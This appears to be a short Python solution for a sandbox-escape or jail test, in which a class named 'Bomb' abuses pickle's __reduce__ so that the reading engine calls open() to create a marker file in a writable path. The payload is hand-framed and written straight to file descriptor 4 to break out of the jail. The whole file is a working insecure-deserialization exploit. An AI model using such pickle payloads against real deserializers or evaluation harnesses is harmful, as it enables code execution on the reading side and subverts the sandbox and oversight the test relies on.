"""Writes a frame itself that runs code when the engine reads it."""

import os
import pickle

from selfproof.jail import values


class Bomb:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def solve(x):
    frame = values.encode(pickle.dumps(Bomb(os.path.join(x["writable"], x["mark"]))))
    os.write(4, (len(frame) + 1).to_bytes(4, "little") + bytes([18]) + frame)
    os._exit(0)
